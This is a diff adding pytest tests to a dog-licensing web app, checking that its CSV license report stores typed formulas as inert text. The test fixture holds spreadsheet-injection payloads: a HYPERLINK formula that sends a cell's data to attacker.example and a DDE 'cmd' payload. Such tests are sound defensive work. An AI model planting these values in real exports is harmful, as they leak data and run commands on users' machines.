@@ -139,3 +139,40 @@ def test_a_discarded_entry_with_bad_text_is_refused(officer):
             "payload": {"narrative": "\ud800"}, "last_error": 2**80}
     refused(post_json(client, "/api/outbox/discarded", body))
     assert rows() == before
+
+
+# --- exports a spreadsheet opens -----------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+
+
+def test_s5F_license_record_csv_keeps_typed_formulas_as_text(app, client, auth):
+    """§5(F) "a record of all licenses issued": the CSV a clerk opens in a spreadsheet shows what
+    was typed as text, never a formula it would run (as the DL-18 CSV does)."""
+    import csv
+    import io
+
+    from fieldapp.extensions import db
+    from fieldapp.models import License
+    with app.app_context():
+        lic = db.session.scalars(db.select(License).order_by(License.issued_on.desc())).first()
+        dog, owner = lic.dog, lic.dog.owner_links[0].owner
+        dog.name, dog.markings, owner.address, owner.phone = FORMULAS
+        db.session.commit()
+        day = lic.issued_on.isoformat()
+    auth.login("clerk")
+    response = client.get(f"/clerk/reports/licenses.csv?from={day}&to={day}")
+    assert response.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for c in row]
+    for typed in FORMULAS:
+        assert "'" + typed in cells or any(c.startswith("'" + typed) for c in cells), typed
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
+
+
+def test_one_csv_writer_for_every_export():
+    """Every CSV the app writes goes through fieldapp/csvfile.py (no csv.writer elsewhere)."""
+    import pathlib
+    root = pathlib.Path(__file__).parents[2] / "fieldapp"
+    writers = [str(p.relative_to(root)) for p in root.rglob("*.py")
+               if "csv.writer" in p.read_text() or "csv.DictWriter" in p.read_text()]
+    assert writers == ["csvfile.py"]
